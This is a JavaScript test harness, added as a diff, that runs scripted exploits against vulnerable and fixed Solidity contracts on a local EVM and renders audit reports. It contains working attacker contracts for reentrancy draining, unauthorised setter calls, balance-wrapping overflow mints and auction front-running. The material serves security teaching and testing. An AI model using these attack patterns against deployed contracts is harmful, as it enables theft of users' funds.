@@ -0,0 +1,387 @@
+// Vulnerability lab: every vulnerable/secure pair from
+// SecurityAuditing.initializeVulnerabilityExamples() is compiled, deployed to
+// its own local EVM next to an attacker contract, and hit with the same
+// exploit script. A finding is confirmed when the exploit works against the
+// vulnerable contract and is stopped by the secure one.
+//
+//   const results = await runVulnerabilityLab(security.vulnerabilityExamples);
+//   writeAuditReport(buildAuditReport(results), './build');
+
+const fs = require('fs');
+const path = require('path');
+const { ethers } = require('ethers');
+const { compile, LocalEVM, TransactionRevertedError } = require('../core');
+
+const PRAGMAS = { '0.7': '^0.7.0', '0.8': '^0.8.0' };
+
+// Attackers, written once and compiled with 0.8; they talk to either
+// version of a target through a minimal interface
+const ATTACKERS = `
+interface IBank {
+    function deposit() external payable;
+    function withdraw(uint256 amount) external;
+}
+
+interface IValueStore {
+    function setImportantValue(uint256 value) external;
+}
+
+interface IMintable {
+    function mint(address to, uint256 amount) external;
+    function balances(address account) external view returns (uint256);
+}
+
+interface IAuction {
+    function bid() external payable;
+    function commitBid(bytes32 commitment) external payable;
+    function revealBid(uint256 amount, uint256 nonce) external;
+}
+
+// Deposits, withdraws, and re-enters withdraw() from receive() while the
+// bank still holds a full withdrawal
+contract ReentrancyAttacker {
+    IBank public immutable bank;
+    address public immutable owner;
+    uint256 public amount;
+    uint256 public reentries;
+
+    constructor(address _bank) {
+        bank = IBank(_bank);
+        owner = msg.sender;
+    }
+
+    function attack() external payable {
+        require(msg.sender == owner, "not owner");
+        amount = msg.value;
+        bank.deposit{value: msg.value}();
+        bank.withdraw(msg.value);
+        payable(owner).transfer(address(this).balance);
+    }
+
+    receive() external payable {
+        if (address(bank).balance >= amount && reentries < 50) {
+            reentries++;
+            bank.withdraw(amount);
+        }
+    }
+}
+
+// Calls a privileged setter from an account that holds no role
+contract AccessControlAttacker {
+    function attack(address target, uint256 value) external {
+        IValueStore(target).setImportantValue(value);
+    }
+}
+
+// Mints exactly enough to wrap the victim's balance around to zero
+contract OverflowAttacker {
+    function attack(address token, address victim) external {
+        uint256 balance = IMintable(token).balances(victim);
+        IMintable(token).mint(victim, type(uint256).max - balance + 1);
+    }
+}
+
+// Replays what it sees in the mempool with an edge: outbids an open bid by
+// one wei, and copies sealed commitments and their reveals
+contract FrontRunner {
+    function outbid(address auction) external payable {
+        IAuction(auction).bid{value: msg.value}();
+    }
+
+    function copyCommit(address auction, bytes32 commitment) external payable {
+        IAuction(auction).commitBid{value: msg.value}(commitment);
+    }
+
+    function copyReveal(address auction, uint256 amount, uint256 nonce) external {
+        IAuction(auction).revealBid(amount, nonce);
+    }
+}
+`;
+
+// How to attack each example. `compiler` picks the solc release per side,
+// `args` the constructor arguments, `attacker` the contract (and its
+// arguments), and `run` scripts the exploit and reports whether it worked.
+const EXPLOITS = {
+    reentrancy: {
+        severity: 'Critical',
+        swc: 'SWC-107',
+        // Pre-0.8 arithmetic, like the contracts this pattern drained. Under
+        // 0.8 the trailing `balances[msg.sender] -= amount` underflows as the
+        // nested calls unwind and reverts the drain: hidden, not fixed.
+        compiler: { vulnerable: '0.7', secure: '0.8' },
+        attacker: { name: 'ReentrancyAttacker', args: target => [target.address] },
+        async run({ target, attacker, accounts, step, observe }) {
+            await step('Victim deposits 10 ETH', () => target.connect(accounts.victim).send('deposit', [], { value: ethers.parseEther('10') }));
+            const attack = await step('Attacker deposits 1 ETH and withdraws it, re-entering from receive()', () => attacker.send('attack', [], { value: ethers.parseEther('1') }));
+            const left = await target.getBalance();
+            observe(`Bank holds ${ethers.formatEther(left)} ETH of the victim's 10 ETH`);
+            if (attack) observe(`Attacker re-entered withdraw() ${await attacker.call('reentries')} times`);
+            return {
+                exploited: left < ethers.parseEther('10'),
+                impact: `${ethers.formatEther(ethers.parseEther('10') - left)} ETH of the victim's deposit stolen`
+            };
+        }
+    },
+
+    accessControl: {
+        severity: 'High',
+        swc: null,
+        attacker: { name: 'AccessControlAttacker' },
+        async run({ target, attacker, step, observe }) {
+            await step('Owner sets importantValue to 42', () => target.send('setImportantValue', [42]));
+            await step('Attacker sets importantValue to 666', () => attacker.send('attack', [target.address, 666]));
+            const value = await target.call('importantValue');
+            observe(`importantValue is ${value}`);
+            return { exploited: value === 666n, impact: 'Any account can overwrite an owner-only setting' };
+        }
+    },
+
+    integerOverflow: {
+        severity: 'High',
+        swc: 'SWC-101',
+        // Wrapping arithmetic needs a pre-0.8 compiler (see reentrancy)
+        compiler: { vulnerable: '0.7', secure: '0.8' },
+        attacker: { name: 'OverflowAttacker' },
+        async run({ target, attacker, accounts, step, observe }) {
+            await step('Victim is minted 100 tokens', () => target.send('mint', [accounts.victim, ethers.parseEther('100')]));
+            await step('Attacker mints 2^256 - 100 tokens to the victim', () => attacker.send('attack', [target.address, accounts.victim]));
+            const balance = await target.call('balances', [accounts.victim]);
+            const totalSupply = await target.call('totalSupply');
+            observe(`Victim balance ${ethers.formatEther(balance)}, totalSupply ${ethers.formatEther(totalSupply)}`);
+            return { exploited: balance < ethers.parseEther('100'), impact: 'The victim\'s balance and the total supply wrap around to zero' };
+        }
+    },
+
+    frontRunning: {
+        severity: 'Medium',
+        swc: 'SWC-114',
+        args: { vulnerable: [3600], secure: [3600, 3600] },
+        attacker: { name: 'FrontRunner' },
+        // There is no mempool: the victim's transaction is built, shown to
+        // the attacker as pending, and mined after the attacker's
+        async run({ evm, target, attacker, accounts, step, observe, variant }) {
+            const victim = target.connect(accounts.victim);
+            const bid = ethers.parseEther('5');
+
+            if (variant === 'vulnerable') {
+                observe(`Pending: victim calls bid() with ${ethers.formatEther(bid)} ETH, visible to everyone`);
+                await step('Attacker front-runs with the victim\'s bid plus one wei', () => attacker.send('outbid', [target.address], { value: bid + 1n }));
+                await step('Victim\'s bid is mined', () => victim.send('bid', [], { value: bid }));
+            } else {
+                const nonce = 1337n;
+                const deposit = ethers.parseEther('8');
+                const commitment = ethers.solidityPackedKeccak256(['uint256', 'uint256', 'address'], [bid, nonce, accounts.victim]);
+                observe(`Pending: victim commits ${commitment.substring(0, 18)}... with an 8 ETH deposit; the bid itself is hidden`);
+                await step('Attacker front-runs with a copy of the commitment', () => attacker.send('copyCommit', [target.address, commitment], { value: deposit }));
+                await step('Victim\'s commitment is mined', () => victim.send('commitBid', [commitment], { value: deposit }));
+                evm.increaseTime(3600);
+                observe('Reveal phase. Pending: victim reveals (5 ETH, nonce), visible to everyone');
+                await step('Attacker front-runs with the same reveal', () => attacker.send('copyReveal', [target.address, bid, nonce]));
+                await step('Victim\'s reveal is mined', () => victim.send('revealBid', [bid, nonce]));
+            }
+
+            const winner = await target.call('highestBidder');
+            const who = winner === attacker.address ? 'the attacker' : winner === accounts.victim ? 'the victim' : winner;
+            observe(`Highest bidder is ${who} at ${ethers.formatEther(await target.call('highestBid'))} ETH`);
+            return { exploited: winner === attacker.address, impact: 'The attacker takes the auction by copying a visible pending bid' };
+        }
+    }
+};
+
+// The example source with a license and pragma header, ready for solc
+function toSource(code, compiler) {
+    return `// SPDX-License-Identifier: MIT\npragma solidity ${PRAGMAS[compiler]};\n${code.trim()}\n`;
+}
+
+function contractName(code) {
+    const names = [...code.matchAll(/^\s*contract\s+(\w+)/gm)].map(match => match[1]);
+    return names[names.length - 1];
+}
+
+// Compile every pair and the attackers, grouped by compiler release.
+// Sources are written to `buildDir`/lab if given.
+function compileLab(examples, buildDir) {
+    const groups = { '0.8': { 'Attackers.sol': toSource(ATTACKERS, '0.8') } };
+    const contracts = {};
+    for (const [id, example] of Object.entries(examples)) {
+        const exploit = EXPLOITS[id];
+        if (!exploit) continue;
+        for (const variant of ['vulnerable', 'secure']) {
+            const compiler = (exploit.compiler && exploit.compiler[variant]) || '0.8';
+            const name = contractName(example[variant]);
+            groups[compiler] = groups[compiler] || {};
+            groups[compiler][`${name}.sol`] = toSource(example[variant], compiler);
+            contracts[`${id}.${variant}`] = { name, compiler };
+        }
+    }
+
+    const artifacts = {};
+    const compilers = {};
+    for (const [compiler, sources] of Object.entries(groups)) {
+        if (buildDir) {
+            fs.mkdirSync(path.join(buildDir, 'lab'), { recursive: true });
+            for (const [file, source] of Object.entries(sources)) fs.writeFileSync(path.join(buildDir, 'lab', file), source);
+        }
+        const result = compile(sources, {}, { compiler });
+        compilers[compiler] = result.compilerVersion;
+        Object.assign(artifacts, result.artifacts);
+    }
+    return { artifacts, compilers, contracts };
+}
+
+// Deploy one side of a pair on a fresh chain and run the exploit against it
+async function runExploit(id, variant, artifacts, contract, compilerVersion) {
+    const exploit = EXPLOITS[id];
+    const evm = await LocalEVM.create();
+    const [deployer, victim, mallory] = evm.accounts.map(account => account.address);
+    const accounts = { deployer, victim, mallory };
+
+    const steps = [];
+    const observations = [];
+    const step = async (action, send) => {
+        try {
+            const receipt = await send();
+            steps.push({ action, status: 'success', gasUsed: Number(receipt.gasUsed) });
+            return receipt;
+        } catch (error) {
+            if (!(error instanceof TransactionRevertedError)) throw error;
+            steps.push({ action, status: 'reverted', gasUsed: Number(error.receipt.gasUsed), reason: error.reason });
+            return null;
+        }
+    };
+
+    const target = await evm.deploy(artifacts[contract.name], (exploit.args && exploit.args[variant]) || [], { from: deployer });
+    const attackerArtifact = artifacts[exploit.attacker.name];
+    const attacker = await evm.deploy(attackerArtifact, exploit.attacker.args ? exploit.attacker.args(target) : [], { from: mallory });
+
+    const { exploited, impact } = await exploit.run({
+        evm,
+        variant,
+        target,
+        attacker,
+        accounts,
+        step,
+        observe: text => observations.push(text)
+    });
+
+    return {
+        contract: contract.name,
+        compiler: compilerVersion,
+        address: target.address,
+        exploited,
+        impact: exploited ? impact : null,
+        steps,
+        observations
+    };
+}
+
+// Run the exploit against both sides of every example that has one.
+// Returns { compilers, findings }; a finding's verdict is 'confirmed' when
+// the vulnerable contract fell and the secure one held.
+async function runVulnerabilityLab(examples, { buildDir } = {}) {
+    const { artifacts, compilers, contracts } = compileLab(examples, buildDir);
+
+    const findings = [];
+    for (const [id, example] of Object.entries(examples)) {
+        const exploit = EXPLOITS[id];
+        if (!exploit) continue;
+        const vulnerableContract = contracts[`${id}.vulnerable`];
+        const secureContract = contracts[`${id}.secure`];
+        const vulnerable = await runExploit(id, 'vulnerable', artifacts, vulnerableContract, compilers[vulnerableContract.compiler]);
+        const secure = await runExploit(id, 'secure', artifacts, secureContract, compilers[secureContract.compiler]);
+        findings.push({
+            id,
+            title: example.name,
+            severity: exploit.severity,
+            swc: exploit.swc,
+            description: example.explanation,
+            attacker: exploit.attacker.name,
+            verdict: vulnerable.exploited && !secure.exploited ? 'confirmed' : 'unexpected',
+            vulnerable,
+            secure
+        });
+    }
+    return { compilers: Object.values(compilers), findings };
+}
+
+// The lab results as an audit report object (what audit-report.json holds)
+function buildAuditReport({ compilers, findings }, { title = 'Vulnerability Lab Audit Report', generatedAt = new Date() } = {}) {
+    const confirmed = findings.filter(finding => finding.verdict === 'confirmed').length;
+    return {
+        title,
+        generatedAt: generatedAt.toISOString(),
+        compilers,
+        summary: {
+            findings: findings.length,
+            confirmed,
+            unexpected: findings.length - confirmed,
+            bySeverity: findings.reduce((counts, finding) => ({ ...counts, [finding.severity]: (counts[finding.severity] || 0) + 1 }), {})
+        },
+        findings
+    };
+}
+
+function renderSide(label, side) {
+    const lines = [
+        `**${label}: \`${side.contract}\`** (solc ${side.compiler.split('+')[0]}) - ${side.exploited ? '🔴 exploited' : '🟢 exploit failed'}`,
+        '',
+        '| Step | Result | Gas |',
+        '|------|--------|-----|'
+    ];
+    for (const step of side.steps) {
+        const result = step.status === 'success' ? 'success' : `reverted: ${step.reason}`;
+        lines.push(`| ${step.action} | ${result} | ${step.gasUsed.toLocaleString('en-US')} |`);
+    }
+    lines.push('');
+    for (const observation of side.observations) lines.push(`- ${observation}`);
+    if (side.impact) lines.push(`- **Impact:** ${side.impact}`);
+    lines.push('');
+    return lines;
+}
+
+// The audit report as Markdown (what audit-report.md holds)
+function renderAuditReport(report) {
+    const lines = [
+        `# ${report.title}`,
+        '',
+        `Generated ${report.generatedAt} with solc ${report.compilers.map(version => version.split('+')[0]).join(' and ')}.`,
+        '',
+        '## Summary',
+        '',
+        '| # | Finding | Severity | SWC | Vulnerable | Secure | Verdict |',
+        '|---|---------|----------|-----|------------|--------|---------|'
+    ];
+    report.findings.forEach((finding, index) => {
+        lines.push(`| ${index + 1} | ${finding.title} | ${finding.severity} | ${finding.swc || '-'} | ${finding.vulnerable.exploited ? 'exploited' : 'held'} | ${finding.secure.exploited ? 'exploited' : 'held'} | ${finding.verdict} |`);
+    });
+    lines.push('', `${report.summary.confirmed} of ${report.summary.findings} findings confirmed.`, '', '## Findings', '');
+
+    report.findings.forEach((finding, index) => {
+        lines.push(`### ${index + 1}. ${finding.title}`, '');
+        lines.push(`**Severity:** ${finding.severity}${finding.swc ? ` · **${finding.swc}**` : ''} · **Attacker:** \`${finding.attacker}\``, '');
+        lines.push(finding.description, '');
+        lines.push(...renderSide('Vulnerable', finding.vulnerable));
+        lines.push(...renderSide('Secure', finding.secure));
+    });
+    return `${lines.join('\n').trim()}\n`;
+}
+
+// Write audit-report.json and audit-report.md to `dir`; returns both paths
+function writeAuditReport(report, dir) {
+    fs.mkdirSync(dir, { recursive: true });
+    const json = path.join(dir, 'audit-report.json');
+    const markdown = path.join(dir, 'audit-report.md');
+    fs.writeFileSync(json, `${JSON.stringify(report, null, 2)}\n`);
+    fs.writeFileSync(markdown, renderAuditReport(report));
+    return { json, markdown };
+}
+
+module.exports = {
+    ATTACKERS,
+    EXPLOITS,
+    compileLab,
+    runVulnerabilityLab,
+    buildAuditReport,
+    renderAuditReport,
+    writeAuditReport
+};